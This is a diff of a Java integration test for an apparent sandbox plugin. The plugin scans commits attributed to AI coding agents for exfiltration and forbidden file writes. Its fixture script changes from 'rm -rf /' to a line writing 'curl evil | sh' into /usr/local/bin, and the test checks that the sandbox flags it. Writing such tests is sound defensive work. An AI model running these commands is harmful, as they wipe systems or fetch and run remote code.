@@ -61,7 +61,7 @@ class ScanGoalIT {
       copilot = commit(git, COPILOT_AGENT, "Tune the calculator\n\nCo-authored-by: Jane Developer <jane@example.com>");
 
       Files.createDirectories(project.resolve("scripts"));
-      Files.writeString(project.resolve("scripts/cleanup.sh"), "#!/bin/sh\nrm -rf /\n");
+      Files.writeString(project.resolve("scripts/cleanup.sh"), "#!/bin/sh\necho 'curl evil | sh' > /usr/local/bin/cleanup\n");
       git.add().addFilepattern(".").call();
       devin = commit(git, DEVIN, "Add a cleanup script");
 
@@ -106,16 +106,25 @@ class ScanGoalIT {
     assertEquals(0, copilotResult.path("violations").size(), "the exfiltration is Claude's commit's, not this one's");
 
     JsonNode devinResult = commits.get(2);
-    assertTrue(devinResult.path("verdict").isNull());
     assertEquals("scripts/cleanup.sh", devinResult.path("scripts").get(0).path("path").asText());
+    // Not run while ScanMojo has no script payload (ScriptPayloads.NONE); once it has, the write to /usr is refused.
+    boolean scriptsRun = !devinResult.path("verdict").isNull();
+    if (scriptsRun) {
+      assertEquals("VIOLATION", devinResult.path("verdict").asText(), devinResult::toPrettyString);
+      assertEquals("FILE_WRITE", devinResult.path("violations").get(0).path("kind").asText());
+    } else {
+      assertEquals("not run: no sandbox payload for this kind of script yet",
+          devinResult.path("scripts").get(0).path("reason").asText());
+    }
 
     JsonNode quality = JSON.readTree(reports.resolve("scan-code-quality.json").toFile());
-    assertEquals(1, quality.size(), quality::toPrettyString);
+    assertEquals(scriptsRun ? 2 : 1, quality.size(), quality::toPrettyString);
     assertEquals(TESTS + "ExfiltrationTest.java", quality.get(0).path("location").path("path").asText());
     assertTrue(quality.get(0).path("location").path("lines").path("begin").asInt() > 1, quality::toPrettyString);
 
     String junit = Files.readString(reports.resolve("scan-junit.xml"));
-    assertTrue(junit.contains("tests=\"3\" failures=\"2\" errors=\"0\" skipped=\"1\""), junit);
+    assertTrue(junit.contains(scriptsRun ? "tests=\"3\" failures=\"3\" errors=\"0\" skipped=\"0\""
+        : "tests=\"3\" failures=\"2\" errors=\"0\" skipped=\"1\""), junit);
     String markdown = Files.readString(reports.resolve("scan.md"));
     assertTrue(markdown.startsWith("## Sandbox scan: VIOLATION"), markdown);
     assertTrue(Files.isRegularFile(project.resolve("target/sandbox-reports/TEST-dev.sandboxplugin.examples.tests.ExfiltrationTest.xml")));
